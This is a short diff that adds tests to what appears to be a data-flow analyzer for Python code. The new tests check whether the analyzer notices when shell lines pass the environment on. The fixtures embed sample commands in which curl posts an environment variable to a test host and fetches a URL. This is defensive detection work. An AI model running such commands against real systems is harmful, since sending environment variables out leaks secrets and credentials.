@@ -84,6 +84,18 @@ describe('what only addresses a request and signs it in', () => {
   });
 });
 
+describe('the environment of a shell', () => {
+  test.each([
+    ['by its place', '"$1" -fsSL "$2"', false],
+    ['by its name', 'curl -d "$OWN" "$2"', true],
+  ])('is told when the line asks for it: %s', (_how, line, isTold) => {
+    const started = `import os, subprocess\ndef go():\n    subprocess.run(["bash", "-c", '${line}', "own", "curl", "https://a.weir.test/x"], env=os.environ)\n`;
+    const [flow] = analyzePython(started).flow.flows;
+
+    expect(((flow?.labels ?? 0) & LABEL.envAll) !== 0).toBe(isTold);
+  });
+});
+
 describe('the environment', () => {
   const SEND = 'requests.post("https://a.weir.test/x", json=';
 
